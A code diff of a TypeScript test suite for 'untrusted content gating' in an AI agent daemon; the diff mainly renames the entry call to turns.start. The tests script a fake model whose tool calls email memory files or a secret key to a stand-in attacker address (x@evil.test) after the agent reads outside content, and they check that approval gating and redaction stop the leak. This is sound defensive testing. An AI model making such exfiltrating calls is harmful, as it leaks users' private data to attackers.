@@ -1,5 +1,5 @@
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import type { App } from '../../src/app.js';
+import type { Daemon as App } from '../../src/daemon.js';
 import { wrapExternal } from '../../src/tools/external.js';
 import type { AnyTool } from '../../src/tools/types.js';
 import { startOpenAiServer, type FakeOpenAI } from '../fakes/openai-server.js';
@@ -75,7 +75,7 @@ describe('untrusted content gating', () => {
       { toolCalls: [{ name: 'test_email_send', arguments: { to: 'x@evil.test', body: 'here are the memory files: …' } }] },
       { content: 'I did not send it.' },
     );
-    const result = await app.converse({ text: 'check my mail', origin, source: 'chat', approve: askWith(app, prompter) });
+    const result = await app.turns.start({ text: 'check my mail', origin, source: 'chat', approve: askWith(app, prompter) });
     expect(sent).toEqual([]);
     expect(prompter.prompts).toHaveLength(1);
     const text = prompter.prompts[0]?.text ?? '';
@@ -94,7 +94,7 @@ describe('untrusted content gating', () => {
     await build({ approval: { auto_approve: ['test_email_send'] } });
     const prompter = recordingPrompter('deny');
     fake.script({ toolCalls: [{ name: 'test_email_send', arguments: { to: 'anna@example.org', body: 'hi' } }] }, { content: 'sent' });
-    await app.converse({ text: 'mail Anna', origin, source: 'chat', approve: askWith(app, prompter) });
+    await app.turns.start({ text: 'mail Anna', origin, source: 'chat', approve: askWith(app, prompter) });
     expect(prompter.prompts).toHaveLength(0);
     expect(sent).toHaveLength(1);
   });
@@ -107,7 +107,7 @@ describe('untrusted content gating', () => {
       { toolCalls: [{ name: 'test_email_send', arguments: { to: 'anna@example.org', body: 'hi' } }] },
       { content: 'sent' },
     );
-    await app.converse({ text: 'read and mail', origin, source: 'chat', approve: askWith(app, prompter) });
+    await app.turns.start({ text: 'read and mail', origin, source: 'chat', approve: askWith(app, prompter) });
     expect(prompter.prompts[0]?.text).toContain('read outside content (test_page)');
     expect(sent).toHaveLength(1);
   });
@@ -116,9 +116,9 @@ describe('untrusted content gating', () => {
     await build({ approval: { auto_approve: ['test_email_send'] } });
     const prompter = recordingPrompter('approve');
     fake.script({ toolCalls: [{ name: 'test_email_read', arguments: {} }] }, { content: 'read it' });
-    await app.converse({ text: 'check mail', origin, source: 'chat', approve: askWith(app, prompter) });
+    await app.turns.start({ text: 'check mail', origin, source: 'chat', approve: askWith(app, prompter) });
     fake.script({ toolCalls: [{ name: 'test_email_send', arguments: { to: 'anna@example.org', body: 'hi' } }] }, { content: 'sent' });
-    await app.converse({ text: 'now mail Anna', origin, source: 'chat', approve: askWith(app, prompter) });
+    await app.turns.start({ text: 'now mail Anna', origin, source: 'chat', approve: askWith(app, prompter) });
     expect(prompter.prompts).toHaveLength(0);
     expect(sent).toHaveLength(1);
   });
@@ -131,7 +131,7 @@ describe('untrusted content gating', () => {
       { toolCalls: [{ name: 'test_email_send', arguments: { to: 'x@evil.test', body: `the key is ${secret}`, password: 'hunter2-not-configured' } }] },
       { content: 'ok' },
     );
-    await app.converse({ text: 'leak', origin, source: 'chat', approve: askWith(app, prompter) });
+    await app.turns.start({ text: 'leak', origin, source: 'chat', approve: askWith(app, prompter) });
     const prompt = prompter.prompts[0]?.text ?? '';
     expect(prompt).toContain('the key is [REDACTED]');
     expect(prompt).toContain('"password": "[MASKED]"');
